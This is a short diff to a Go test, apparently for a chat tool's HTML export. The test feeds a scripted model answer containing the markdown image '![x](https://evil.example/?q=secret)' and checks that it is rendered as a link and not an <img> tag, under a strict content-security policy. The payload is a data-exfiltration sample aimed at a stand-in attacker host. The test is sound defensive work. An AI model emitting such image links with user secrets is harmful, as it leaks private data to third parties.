@@ -51,7 +51,7 @@ var showing = []fault{
 		h, _ := scripted(t, demo.Stream(demo.Answer("![x](https://evil.example/?q=secret)")...))
 		h.run("hi")
 		page := h.run("cat", "--format", "html").stdout
-		if strings.Contains(page, "<img") || !strings.Contains(page, "![x](") {
+		if strings.Contains(page, "<img") || !strings.Contains(page, `<a href="https://evil.example/?q=secret"`) {
 			t.Errorf("%s", page)
 		}
 		if !strings.Contains(page, `content="default-src 'none'; style-src 'unsafe-inline'`) {
